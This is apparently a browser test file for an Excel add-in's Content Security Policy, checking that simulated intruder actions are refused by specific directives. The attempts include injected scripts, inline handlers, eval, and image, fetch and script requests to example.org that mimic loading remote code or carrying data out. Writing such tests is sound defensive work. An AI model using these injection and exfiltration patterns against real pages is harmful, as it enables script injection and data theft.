import { readFile } from "node:fs/promises";
import type { Frame } from "playwright-core";
import { describeInBrowser } from "./start-browser";
import { Story } from "./stories/story";

jest.setTimeout(90_000);

/** What a page did with something that its policy has to refuse. */
interface Tried {
  /** Whether it had an effect all the same. */
  readonly worked: boolean;
  /** The parts of the policy that refused it, as the page itself was told. */
  readonly refusedBy: readonly string[];
}

/**
 * Things an intruder would do. They run in the page, and answer true or leave `data-intruder` on the body where
 * they worked. What is asked of another computer would not be answered by it here; that it was refused is all there
 * is to see.
 */
const attempts = {
  "a script written into the page": () => {
    const script = document.createElement("script");
    script.textContent = "document.body.dataset.intruder = 'script'";
    document.body.append(script);
    script.remove();
    return false;
  },
  "a handler written into an element": () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "document.body.dataset.intruder = 'handler'");
    document.body.append(button);
    button.click();
    button.remove();
    return false;
  },
  "an address that is a script": () => {
    const link = document.createElement("a");
    link.href = "javascript:void (document.body.dataset.intruder = 'address')";
    document.body.append(link);
    link.click();
    link.remove();
    return false;
  },
  "words run by eval": () => {
    try {
      return Reflect.apply(eval, undefined, ["1 + 1"]) === 2;
    } catch {
      return false;
    }
  },
  "words made a function": () => {
    try {
      return new Function("return 2")() === 2;
    } catch {
      return false;
    }
  },
  "a style element with words in it": () => {
    const style = document.createElement("style");
    style.textContent = "body { --intruder: style }";
    document.head.append(style);
    const worked = getComputedStyle(document.body).getPropertyValue("--intruder") !== "";
    style.remove();
    return worked;
  },
  "a style written into an element": () => {
    const element = document.createElement("p");
    element.setAttribute("style", "--intruder: attribute");
    document.body.append(element);
    const worked = getComputedStyle(element).getPropertyValue("--intruder") !== "";
    element.remove();
    return worked;
  },
  "a script of another computer": () => {
    const script = document.createElement("script");
    script.src = "https://example.org/intruder.js";
    document.body.append(script);
    script.remove();
    return false;
  },
  "a picture of another computer, which carries words away in its address": () => {
    new Image().src = "https://example.org/intruder.png?figures=1,480";
    return false;
  },
  "a request to another computer": () => {
    fetch("https://example.org/intruder").catch(() => undefined);
    return false;
  },
  "a frame of another computer": () => {
    const frame = document.createElement("iframe");
    frame.src = "https://example.org/";
    document.body.append(frame);
    setTimeout(() => frame.remove(), 200);
    return false;
  },
  "a worker made from words": () => {
    try {
      new Worker(URL.createObjectURL(new Blob(["1"])));
    } catch {
      // Some browsers throw, others tell it by an event; both tell the policy's listener.
    }
    return false;
  },
} as const;

type Attempt = keyof typeof attempts;

/** Which part of the policy has to refuse which attempt. */
const refusals: readonly (readonly [Attempt, string])[] = [
  ["a script written into the page", "script-src-elem"],
  ["a handler written into an element", "script-src-attr"],
  ["an address that is a script", "script-src-elem"],
  ["words run by eval", "script-src"],
  ["words made a function", "script-src"],
  ["a style element with words in it", "style-src-elem"],
  ["a style written into an element", "style-src-attr"],
  ["a script of another computer", "script-src-elem"],
  ["a picture of another computer, which carries words away in its address", "img-src"],
  ["a request to another computer", "connect-src"],
  ["a frame of another computer", "frame-src"],
  ["a worker made from words", "worker-src"],
];

/**
 * Does it in the page and listens to what the policy says. A moment later than asked for: what a debugger runs
 * itself is exempt from the policy.
 */
function attempt(frame: Frame, what: Attempt): Promise<Tried> {
  return frame.evaluate(
    `new Promise((resolve) => {
      const refusedBy = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refusedBy.push(effectiveDirective));
      setTimeout(() => {
        const worked = (${attempts[what].toString()})();
        setTimeout(() => resolve({ worked: worked || "intruder" in document.body.dataset, refusedBy }), 300);
      }, 0);
    })`,
  );
}

describeInBrowser("what the pages' policies refuse", () => {
  let story: Story;
  beforeAll(async () => {
    story = await Story.open();
  });
  afterAll(() => story?.close());

  test("neither allows what is written into the page; the workbench alone allows compiled programs", async () => {
    const pane = await readFile("dist/addin/taskpane.html", "utf8");
    expect(pane).toMatch(/http-equiv="Content-Security-Policy"/);
    expect(pane.match(/unsafe-[a-z-]+/g)).toBeNull();
    const page = await story.excel.page.request.get(story.excel.page.url());
    const policy = page.headers()["content-security-policy"];
    expect(policy?.match(/\S*unsafe-[a-z-]+/g)).toEqual(["'wasm-unsafe-eval"]);
  });

  describe.each(["pane", "workbench"] as const)("in the %s", (where) => {
    const frame = () => (where === "pane" ? story.frame : story.excel.page.mainFrame());

    test.each(refusals)("%s is refused by %s", async (what, by) => {
      const { worked, refusedBy } = await attempt(frame(), what);
      expect(worked).toBe(false);
      expect(refusedBy).toContain(by);
    });

    test("an empty style element filled by script holds, as Fluent UI does it", async () => {
      const shown = await frame().evaluate(() => {
        const style = document.createElement("style");
        document.head.append(style);
        style.sheet?.insertRule("body { --ours: there }");
        return getComputedStyle(document.body).getPropertyValue("--ours").trim();
      });
      expect(shown).toBe("there");
    });

    test("the page itself looks as it should: its styles were let through", async () => {
      const control = frame().locator(".fui-Button").first();
      expect(await control.evaluate((button) => getComputedStyle(button).borderRadius)).toBe("4px");
    });
  });

  test("such a refusal is a fault in every other test in a browser", () => {
    const told = story.excel.faults.filter((fault) => fault.includes("Content Security Policy"));
    expect(told.length).toBeGreaterThanOrEqual(2 * refusals.length - 2);
  });
});
